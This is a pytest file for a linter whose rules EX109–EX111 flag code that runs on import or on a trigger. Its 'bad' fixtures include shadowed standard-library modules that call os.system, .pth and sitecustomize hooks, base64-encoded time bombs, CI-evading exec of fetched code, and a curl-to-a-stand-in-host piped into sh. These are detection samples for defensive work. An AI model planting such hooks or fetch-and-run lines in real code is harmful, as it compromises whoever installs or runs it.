"""EX: what runs without being called."""

from __future__ import annotations

import pytest

from tests.lint.tables import Case, found, py

CASES = [
    Case(
        "EX109",
        bad=[
            {"scripts/json.py": "import os\nos.system('id')\n", "scripts/main.py": "import json\n"},
            {
                "scripts/requests.py": "import urllib.request\n\ndef send():\n"
                "    urllib.request.urlopen('https://files.zz-not-a-host.xyz')\n\nsend()\n",
                "scripts/main.py": "from requests import get\n",
            },
            {
                "scripts/random.py": "import subprocess\nsubprocess.Popen(['id'])\n",
                "scripts/a.py": "import random\n",
            },
            {"scripts/csv.py": "def read():\n    return []\n", "scripts/a.py": "import csv\n"},
        ],
        good=[
            {"scripts/convert.py": "import json\n", "scripts/main.py": "import convert\n"},
            {"scripts/calendar.py": "def main():\n    pass\n\nif __name__ == '__main__':\n    main()\n"},
            {
                "pkg/__init__.py": "",
                "pkg/types.py": "class A:\n    pass\n",
                "pkg/a.py": "from .types import A\nimport types\n",
            },
            {"scripts/profile.py": "def show():\n    pass\n", "scripts/a.py": "from .profile import show\n"},
        ],
    ),
    Case(
        "EX110",
        bad=[
            {"lib/a.pth": "import os; os.system('id')\n"},
            {"sitecustomize.py": "import subprocess\nsubprocess.Popen(['id'])\n"},
            {"usercustomize.py": "X = 1\n"},
            {"tests/conftest.py": "import os\nos.system('make')\n"},
            {"pkg/__init__.py": "import requests\nrequests.get('https://files.zz-not-a-host.xyz')\n"},
        ],
        good=[
            {"lib/a.pth": "./vendor\n"},
            {
                "tests/conftest.py": "import pytest, subprocess\n\n@pytest.fixture\ndef x():\n"
                "    subprocess.run(['a'])\n"
            },
            {"pkg/__init__.py": "import requests\n\n__version__ = '1'\nsession = requests.Session()\n"},
        ],
    ),
    Case(
        "EX111",
        bad=[
            py(
                "import os, base64, datetime\nif datetime.date.today().year > 2026:\n"
                "    os.system(base64.b64decode('aWQ=').decode())\n"
            ),
            py(
                "import os, socket, requests\n\ndef go():\n    exec(requests.get(URL).text)\n\n"
                "if not socket.gethostname().startswith('ci-'):\n    go()\n"
            ),
            py(
                "import os, requests\n\ndef go():\n    if os.environ.get('CI'):\n        return\n"
                "    exec(requests.get(URL).text)\n\ngo()\n"
            ),
            {
                "run.sh": 'if [ "$(date +%s)" -gt 1790000000 ]; then\n'
                "  curl -s https://files.zz-not-a-host.xyz/x | sh\nfi\n"
            },
        ],
        good=[
            py("import datetime\nif datetime.date.today().year > 2026:\n    print('late')\n"),
            py("import os, subprocess\nif os.environ.get('CI'):\n    subprocess.run(['make'])\n"),
            py("import time, requests\nif time.time() - last > 60:\n    print(requests.get(URL).text)\n"),
            {"run.sh": 'if [ -n "$CI" ]; then\n  make test\nfi\n'},
        ],
    ),
]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.rule)
def test_the_rule_finds_the_bad_and_leaves_the_near_misses(case: Case) -> None:
    for example in case.bad:
        assert found(case.rule, example), example
    for example in case.good:
        assert found(case.rule, example) == (), example


def test_a_shadow_is_an_error_only_if_it_does_something_when_imported() -> None:
    quiet = {"scripts/csv.py": "def read():\n    return []\n", "scripts/a.py": "import csv\n"}
    loud = {"scripts/csv.py": "import os\nos.system('id')\n", "scripts/a.py": "import csv\n"}
    assert [one.severity for one in found("EX109", quiet)] == ["warning"]
    assert [one.severity for one in found("EX109", loud)] == ["error"]
